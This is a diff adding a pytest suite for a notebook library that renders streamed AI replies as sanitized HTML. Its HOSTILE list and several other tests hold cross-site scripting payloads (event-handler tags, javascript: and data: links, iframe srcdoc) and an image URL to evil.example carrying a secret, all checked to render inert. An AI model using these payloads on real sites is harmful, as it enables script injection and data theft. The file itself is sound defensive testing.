@@ -1,0 +1,446 @@
+"""Rendering without a kernel: safe Markdown, block freezing, bounded live updates, final view."""
+
+from __future__ import annotations
+
+import random
+import re
+from html.parser import HTMLParser
+
+import pytest
+
+from glm_notebook.events import ContentDelta, Finish, ReasoningDelta, StreamStart, Usage, UsageReport
+from glm_notebook.render import (
+    BlockSplitter,
+    LiveAnswer,
+    Throttle,
+    escape_text,
+    markdown_html,
+    reply_bundle,
+    sanitize_html,
+)
+from glm_notebook.render.markdown import ALLOWED_TAGS
+from glm_notebook.reply import Reply
+
+
+class _Tags(HTMLParser):
+    """Every start tag with its attributes, and the visible text."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.text: list[str] = []
+
+    def handle_starttag(self, tag, attrs):  # noqa: ANN001
+        self.tags.append((tag, dict(attrs)))
+
+    def handle_data(self, data):  # noqa: ANN001
+        self.text.append(data)
+
+
+def parse(html: str) -> _Tags:
+    parser = _Tags()
+    parser.feed(html)
+    parser.close()
+    return parser
+
+
+def assert_inert(html: str) -> None:
+    """Only allow-listed tags; no event handlers; links http(s)/mailto only."""
+    for tag, attrs in parse(html).tags:
+        assert tag in ALLOWED_TAGS, (tag, html)
+        for name, value in attrs.items():
+            assert not name.startswith("on"), (tag, name, html)
+            assert name in {"href", "title", "class", "start", "open", "style", "rel"}, (name, html)
+            if name == "href":
+                assert re.match(r"(https?:|mailto:)", value or ""), (value, html)
+            if name == "style":
+                assert re.fullmatch(r"text-align:(left|right|center)", value or ""), value
+
+
+HOSTILE = [
+    "<img src=x onerror=alert(1)>",
+    "<script>alert(1)</script>",
+    "<svg onload=alert(1)>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](  javascript:alert(1))",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "<javascript:alert(1)>",
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<a href="javascript:alert(1)">click</a>',
+    '<details open ontoggle=alert(1)><summary>x</summary></details>',
+    "![x](https://evil.example/pixel.png?secret=1)",
+    "![x](javascript:alert(1))",
+    '[x](https://example.com "onmouseover=alert(1)")',
+    "```<img/src=x/onerror=alert(1)>\ncode\n```",
+    "$<img src=x onerror=alert(1)>$",
+    "$$\n</div><img src=x onerror=alert(1)>\n$$",
+    "\\(<script>alert(1)</script>\\)",
+    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>x</script> | 2 |",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "<style>body{display:none}</style>",
+    "<form action=https://evil><input name=q></form>",
+    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_hostile_markdown_renders_inert(text: str) -> None:
+    html = markdown_html(text)
+    assert_inert(html)
+    lowered = html.lower()
+    for marker in ("<img", "<script", "<svg", "<iframe", "<style", "<form", "<input", "<math"):
+        assert marker not in lowered, html
+
+
+@pytest.mark.parametrize(
+    "text, visible",
+    [
+        ("<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>"),
+        ("<script>alert(1)</script>", "<script>alert(1)</script>"),
+        ("[x](javascript:alert(1))", "[x](javascript:alert(1))"),
+        ('<a href="javascript:alert(1)">click</a>', '<a href="javascript:alert(1)">click</a>'),
+    ],
+)
+def test_hostile_markup_stays_visible_as_text(text: str, visible: str) -> None:
+    assert visible in "".join(parse(markdown_html(text)).text)
+
+
+def test_images_become_links_and_relative_links_text() -> None:
+    html = markdown_html("![chart](https://example.com/c.png) [home](/tree) [ok](https://a.example)")
+    tags = parse(html).tags
+    assert ("a", {"href": "https://example.com/c.png", "rel": "noopener noreferrer"}) in tags
+    assert "[image: chart]" in html
+    assert "[home](/tree)" in html
+    assert '<a href="https://a.example" rel="noopener noreferrer">ok</a>' in html
+
+
+def test_code_table_math_and_strikethrough_survive() -> None:
+    html = markdown_html(
+        "```python\nprint('<b>')\n```\n\n"
+        "| a | b |\n|--:|---|\n| 1 | 2 |\n\n"
+        "Inline $x^2 < 3$ and ~~gone~~.\n"
+        "$$\n\\int_0^1 f(x)\\,dx\n$$\n"
+        "Also \\(a+b\\) and\n\\[\nE = mc^2\n\\]\n"
+    )
+    assert '<pre><code class="language-python">print(\'&lt;b&gt;\')' in html
+    assert '<th style="text-align:right">a</th>' in html and "<td>2</td>" in html
+    assert '<span class="math inline mathjax_process tex2jax_process">$x^2 &lt; 3$</span>' in html
+    assert "$$\\int_0^1 f(x)\\,dx$$</div>" in html
+    assert "\\(a+b\\)</span>" in html and "\\[E = mc^2\\]</div>" in html
+    assert "<s>gone</s>" in html
+    assert html.startswith('<div class="glm-md mathjax_ignore tex2jax_ignore">')
+
+
+def test_money_is_not_math_and_unsafe_tex_is_code() -> None:
+    assert "mathjax_process" not in markdown_html("It costs $5 and $10.")
+    html = markdown_html("It costs $10. Real math: $x^2$ and $ y $.")
+    assert html.count("mathjax_process") == 1 and ">$x^2$</span>" in html
+    html = markdown_html("$\\href{javascript:alert(1)}{x}$")
+    assert "<code>$\\href{javascript:alert(1)}{x}$</code>" in html
+    assert "mathjax_process" not in html
+
+
+def test_sanitizer_keeps_details_and_drops_handlers() -> None:
+    html = sanitize_html(
+        '<details open ontoggle="x()"><summary class="glm-x evil">S</summary><p onclick="y()">b</p></details>'
+    )
+    assert html == '<details open=""><summary class="glm-x">S</summary><p>b</p></details>'
+
+
+def test_escape_text() -> None:
+    assert escape_text("<a href='x'>&\"") == "&lt;a href=&#x27;x&#x27;&gt;&amp;&quot;"
+
+
+# -- block freezing -----------------------------------------------------------------------------
+
+
+def split_all(text: str, step: int = 1, **kw: int) -> list[str]:
+    splitter = BlockSplitter(**kw)
+    blocks: list[str] = []
+    for i in range(0, len(text), step):
+        blocks += splitter.feed(text[i : i + step])
+    rest = splitter.close()
+    return blocks + ([rest] if rest else [])
+
+
+def test_list_continuations_are_not_split() -> None:
+    text = "- one\n\n  continued one\n\n- two\n\n      indented code in two\n\n1. a\n\n2. b\n\nAfter.\n"
+    blocks = split_all(text)
+    assert blocks[0] == "- one\n\n  continued one\n\n- two\n\n      indented code in two\n\n1. a\n\n2. b\n\n"
+    assert blocks[1] == "After.\n"
+
+
+def test_fences_and_math_blocks_are_not_split() -> None:
+    fence = "```python\nx = 1\n\ny = 2\n\nprint(x)\n```\n\n"
+    math = "$$\na\n\\\\\nb\n$$\n\n"
+    blocks = split_all("Intro.\n\n" + fence + math + "End.\n")
+    assert blocks == ["Intro.\n\n", fence, math, "End.\n"]
+
+
+@pytest.mark.parametrize("step", [1, 3, 7, 64])
+def test_blocks_rejoin_to_the_text(step: int) -> None:
+    text = SAMPLE * 3
+    assert "".join(split_all(text, step)) == text
+
+
+def test_long_code_block_is_cut_and_reopened() -> None:
+    code = "".join(f"line_{i} = {i}\n" for i in range(3000))
+    blocks = split_all("```python\n" + code + "```\n", step=5, max_block=2000)
+    assert len(blocks) > 10
+    assert all(len(block) < 2000 + 200 for block in blocks)
+    html = "".join(markdown_html(block) for block in blocks)
+    assert html.count('<code class="language-python">') == len(blocks)
+    for i in (0, 1500, 2999):
+        assert f"line_{i} = {i}" in html
+
+
+def test_long_table_is_cut_with_its_header() -> None:
+    rows = "".join(f"| {i} | {i * i} |\n" for i in range(2000))
+    blocks = split_all("| n | sq |\n|---|---|\n" + rows, step=9, max_block=3000)
+    assert len(blocks) > 5
+    for block in blocks:
+        assert "<table>" in markdown_html(block)
+        assert block.startswith("| n | sq |\n|---|---|\n")
+
+
+def test_long_list_is_cut_before_an_item_not_inside_one() -> None:
+    text = "".join(f"- item {i}\n  continued {i}\n" for i in range(1000))
+    blocks = split_all(text, step=11, max_block=1000)
+    assert len(blocks) > 10 and "".join(blocks) == text
+    assert all(block.startswith("- item") for block in blocks)
+
+
+def test_a_line_without_newline_is_cut() -> None:
+    splitter = BlockSplitter(max_line=1000)
+    blocks: list[str] = []
+    for _ in range(500):
+        blocks += splitter.feed("word " * 20)
+    assert blocks and len(splitter.tail) <= 1100
+
+
+@pytest.mark.parametrize(
+    "tail, shown",
+    [
+        ("Text\n\n| a | b |\n|---|---|\n| 1 | 2", "Text\n\n| a | b |\n|---|---|\n"),
+        ("Text\n\n| a | b |\n", "Text\n\n"),
+        ("Text\n\n| a | b |\n|---|---|\n| 1 | 2 |\n", "Text\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"),
+        ("Energy is $E = mc", "Energy is "),
+        ("Energy is $E = mc^2$ and", "Energy is $E = mc^2$ and"),
+        ("It costs $5 or more", "It costs $5 or more"),
+        ("Price $10. Then $x", "Price $10. Then "),
+        ("Price $10 and $ 20", "Price $10 and $ 20"),
+        ("Use `$x` in shell", "Use `$x` in shell"),
+        ("Paren \\(a + b", "Paren "),
+        ("Escaped \\$ sign", "Escaped \\$ sign"),
+        ("Sum:\n\n$$\n\\sum_i", "Sum:\n\n"),
+        ("Sum:\n\\[\n\\sum_i", "Sum:\n"),
+        ("```python\ndef f(", "```python\ndef f("),
+        ("Closed $$x$$ then $y", "Closed $$x$$ then "),
+    ],
+)
+def test_display_tail_holds_back_what_would_jump(tail: str, shown: str) -> None:
+    splitter = BlockSplitter()
+    blocks = splitter.feed(tail)
+    assert "".join(blocks) + splitter.display_tail() == shown
+
+
+# -- LiveAnswer ---------------------------------------------------------------------------------
+
+SAMPLE = """## Section
+
+Paragraph with **bold**, `code` and $x^2$.
+
+- item one
+- item two
+  - nested
+
+```python
+def f(x):
+
+    return x
+```
+
+| n | sq |
+|---|---:|
+| 1 | 1 |
+| 2 | 4 |
+
+> A quote.
+
+1. step
+2. step $y_1$
+
+$$
+E = mc^2
+$$
+
+"""
+
+
+def long_answer(size: int, seed: int = 7) -> str:
+    rng = random.Random(seed)
+    pieces, total, n = [], 0, 0
+    while total < size:
+        n += 1
+        kind = rng.randrange(4)
+        if kind == 0:
+            piece = SAMPLE.replace("Section", f"Section {n}")
+        elif kind == 1:
+            piece = f"Paragraph {n}: " + "streaming words flow " * 40 + "\n\n"
+        elif kind == 2:
+            piece = "```\n" + "".join(f"code {n}.{i}\n" for i in range(200)) + "```\n\n"
+        else:
+            piece = f"{n}. " + "list text " * 30 + "\n   continued\n\n"
+        pieces.append(piece)
+        total += len(piece)
+    return "".join(pieces)[:size]
+
+
+def stream_live(text: str, every: int = 4, seed: int = 3) -> tuple[LiveAnswer, list[int]]:
+    """Feed `text` in deltas of 1-12 characters, drawing after every `every` deltas."""
+    rng = random.Random(seed)
+    live = LiveAnswer()
+    sizes: list[int] = []
+    i = count = 0
+    while i < len(text):
+        j = i + rng.randint(1, 12)
+        live.feed_content(text[i:j])
+        i, count = j, count + 1
+        if count % every == 0:
+            sizes += [len(update.html) for update in live.changes()]
+    sizes += [len(update.html) for update in live.changes(final=True)]
+    return live, sizes
+
+
+def test_live_updates_are_bounded_and_total_is_linear() -> None:
+    _, small = stream_live(long_answer(100_000))
+    _, large = stream_live(long_answer(200_000))
+    bound = 30_000  # independent of the answer's length
+    assert max(small) < bound and max(large) < bound
+    ratio = sum(large) / sum(small)
+    assert 1.6 < ratio < 2.5, ratio
+
+
+def test_live_final_panes_hold_the_whole_answer() -> None:
+    text = long_answer(60_000)
+    live, _ = stream_live(text)
+    shown = "".join(live.panes)
+    for marker in re.findall(r"Section \d+|Paragraph \d+|code \d+\.\d+", text):
+        assert marker in shown
+    assert len(live.panes) > 5  # several segment panes
+
+
+def test_changes_report_only_what_changed() -> None:
+    live = LiveAnswer(waiting="Waiting…")
+    assert [u.index for u in live.changes()] == [0]
+    assert live.changes() == []
+    live.feed_content("Hello ")
+    updates = live.changes()
+    assert [u.index for u in updates] == [0, 1]
+    assert updates[0].html == ""  # the waiting line goes away
+    assert "Hello" in updates[1].html
+    assert live.changes() == []
+
+
+def test_reasoning_shows_tail_then_collapses() -> None:
+    now = [100.0]
+    live = LiveAnswer(reasoning_chars=300, clock=lambda: now[0])
+    for i in range(200):
+        live.feed_reasoning(f"thought {i} ")
+    pane0 = live.changes()[0].html
+    assert "<details" in pane0 and "open" in pane0 and "Thinking · 400 words" in pane0
+    assert "thought 199" in pane0 and "thought 0 " not in pane0 and "…" in pane0
+    now[0] = 103.25
+    live.apply(ContentDelta("The answer."))
+    updates = {u.index: u.html for u in live.changes()}
+    assert updates[0].startswith('<details class="glm-reasoning"><summary>Reasoning · 400 words · ')
+    assert '<span class="glm-time">3.2 s</span>' in updates[0]
+    assert "thought 0 " in updates[0]  # the whole reasoning, collapsed
+    assert "The answer." in updates[1]
+
+
+def test_json_language_renders_code() -> None:
+    live = LiveAnswer(language="json")
+    live.feed_content('{"a": "<b>"}')
+    html = live.changes(final=True)[-1].html
+    assert html == '<pre><code class="language-json">{&quot;a&quot;: &quot;&lt;b&gt;&quot;}</code></pre>'
+
+
+def test_sync_reads_a_reply() -> None:
+    reply = Reply()
+    live = LiveAnswer()
+    for piece in ["# Ti", "tle\n\nBody ", "text"]:
+        reply.apply(ContentDelta(piece))
+        live.sync(reply)
+    html = "".join(u.html for u in live.changes(final=True))
+    assert "<h1>Title</h1>" in html and "Body text" in html
+
+
+def test_throttle_caps_draws() -> None:
+    now = [0.0]
+    throttle = Throttle(20, clock=lambda: now[0])
+    draws = 0
+    for _ in range(2000):  # 2000 deltas over 2 seconds
+        draws += throttle.ready()
+        now[0] += 0.001
+    assert draws <= 41
+    assert Throttle(None).ready() and Throttle(None).ready()
+    zero = Throttle(0, clock=lambda: now[0])
+    assert zero.ready() and not zero.ready()
+
+
+# -- the final view -----------------------------------------------------------------------------
+
+
+def make_reply(text: str, *, reasoning: str = "Let me think.", finish: str = "stop") -> Reply:
+    reply = Reply(model="glm-4.6", request={"model": "glm-4.6", "temperature": 0.2, "thinking": {"type": "enabled"}})
+    reply.apply(StreamStart("chatcmpl-1", "glm-4.6", 1700000000))
+    if reasoning:
+        reply.apply(ReasoningDelta(reasoning))
+    reply.apply(ContentDelta(text))
+    reply.apply(Finish(finish))
+    reply.apply(UsageReport(Usage(12, 340, 352, cached_tokens=4, reasoning_tokens=20)))
+    reply.finish()
+    return reply
+
+
+def test_reply_bundle() -> None:
+    data, metadata = reply_bundle(make_reply("# Hi\n\n<img src=x onerror=alert(1)>", finish="length"))
+    assert data["text/plain"] == "<Reply glm-4.6: 34 chars, cut short by max_tokens>"
+    html = data["text/html"]
+    assert_inert(html)
+    assert '<details class="glm-reasoning"><summary>Reasoning · 3 words · ' in html
+    assert "<h1>Hi</h1>" in html and "&lt;img src=x onerror=alert(1)&gt;" in html
+    assert "<strong>⚠ cut short by max_tokens</strong>" in html
+    assert "12 prompt / 340 completion tokens (4 cached, 20 reasoning)" in html
+    assert 'first token <span class="glm-time">' in html and 'class="glm-rate"' in html
+    info = metadata["glm_notebook"]
+    assert info["model"] == "glm-4.6" and info["id"] == "chatcmpl-1"
+    assert info["params"] == {"temperature": 0.2, "thinking": {"type": "enabled"}}
+    assert info["usage"]["completion_tokens"] == 340 and info["finish_reason"] == "length"
+
+
+def test_reply_bundle_never_carries_a_key() -> None:
+    reply = make_reply("x")
+    reply.request["api_key"] = "sk-secret"
+    reply.request["Authorization"] = "Bearer sk-secret"
+    assert "sk-secret" not in repr(reply_bundle(reply))
+
+
+def test_interrupted_and_empty_replies_say_so() -> None:
+    reply = Reply(model="glm-4.6")
+    reply.apply(ContentDelta("Partial"))
+    reply.finish(stopped="interrupted")
+    html = reply_bundle(reply)[0]["text/html"]
+    assert "<strong>⚠ interrupted</strong>" in html and "Partial" in html
+    assert "7 characters received" in html
+    empty = make_reply("", reasoning="Only thoughts.")
+    assert "(no answer text)" in reply_bundle(empty)[0]["text/html"]
+
+
+def test_json_reply_is_code() -> None:
+    reply = make_reply('{"a": 1}')
+    reply.request["response_format"] = {"type": "json_object"}
+    assert '<pre><code class="language-json">{"a": 1}</code></pre>' in reply_bundle(reply)[0]["text/html"]
